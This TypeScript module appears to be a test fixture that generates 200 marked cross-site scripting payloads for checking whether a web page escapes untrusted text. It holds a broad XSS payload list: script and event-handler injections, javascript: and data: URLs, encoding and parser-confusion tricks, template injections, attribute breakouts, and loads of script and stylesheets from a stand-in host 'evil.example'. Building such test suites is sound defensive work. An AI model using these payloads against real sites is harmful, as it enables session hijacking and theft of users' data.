/** A text that tries to become part of a page. */
export interface Payload {
  /** Letters and digits that stand in the text and nowhere else. */
  marker: string
  text: string
}

const foreign = '//evil.example'

/** What would run, each with the call of the hook that says so. */
const active = (call: string): readonly string[] => [
  `<script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${call}"><text y=9>a</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<math href="javascript:${call}">a</math>`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<object data="javascript:${call}">`,
  `<embed src="javascript:${call}">`,
  `<a href="javascript:${call}">a</a>`,
  `<form action="javascript:${call}"><button autofocus>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href=${foreign}/>`,
  `<style>@import'${foreign}/x.css';</style>`,
  `<xss tabindex=1 autofocus onfocus=${call}>`,
  `<ScRiPt >${call}</sCrIpT\n>`,
  `<img/src=x/onerror=${call}//`,
]

const further = (call: string): readonly string[] => [
  `<script src=${foreign}/x.js></script>`,
  `<body onload=${call}>`,
  `<a href="JaVaScRiPt:${call}">a</a>`,
  `<a href="java&Tab;script:${call}">a</a>`,
  `<button formaction="javascript:${call}">a</button>`,
  `<link rel=stylesheet href=${foreign}/x.css>`,
  `<div style="background:url(${foreign}/x)">`,
  `<style>*{background:url(javascript:${call})}</style>`,
  `<marquee onstart=${call}>`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${call}>">`,
  `<xmp><img title="</xmp><img src=x onerror=${call}>">`,
  `<p onpointerover=${call} style=position:fixed;inset:0>`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<!--<script>${call}</script>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<<script>${call}//<</script>`,
  `<img src=\`x\`onerror=${call}>`,
  `<script\u000c>${call}</script>`,
  `<scr\u00adipt>${call}</script>`,
  `<\u200bscript>${call}</script>`,
  `\u202e<script>${call}</script>`,
  `＜script＞${call}＜/script＞`,
  `\ufeff<svg onload=${call}>`,
  `\u2028${call}\u2029`,
  `";${call};//`,
  `';${call};//`,
  `\`;${call};//`,
  `\\";${call};//`,
  `" autofocus onfocus=${call} x="`,
  `' onmouseover=${call} x='`,
  `" style=animation-name:x onanimationstart=${call} "`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `%253Cscript%253E${call}%253C/script%253E`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `{{constructor.constructor('${call}')()}}`,
  `{{n}}{{text}}<img src=x onerror=${call}>`,
  `$t(common.brand)<img src=x onerror=${call}>`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `[a](javascript:${call})`,
  `![a](x "onerror=${call})`,
  `<javascript:${call}>`,
  `javascript:${call}`,
  `JAVASCRIPT&colon;${call}`,
  `javascript://%0a${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+`,
  `vbscript:${call}`,
  `blob:${foreign}/${call}`,
  `${foreign}/`,
  `https:${foreign.slice(1)}/"onfocus=${call}`,
  `/.${foreign}/`,
  `@evil.example/${call}`,
]

/** Ends of what a text may stand in. */
const breakouts = ['">', "'>", '</script>', '</title>', '</textarea>', '--></p>', '</style>', ']]>', '"/></select>']

const count = 200

/** The payloads, always the same: everything by itself, and what would run after the end of what it may stand in. */
export const payloads: readonly Payload[] = Array.from({ length: count }, (_, number) => {
  const call = `__xss(${number})`
  const alone = [...active(call), ...further(call)]
  const broken = breakouts.flatMap((end) => active(call).map((text) => end + text))
  const step = Math.floor(broken.length / (count - alone.length))
  const text = alone[number] ?? broken[((number - alone.length) * step) % broken.length] ?? ''
  const marker = `q${number}x`
  return { marker, text: marker + text }
})
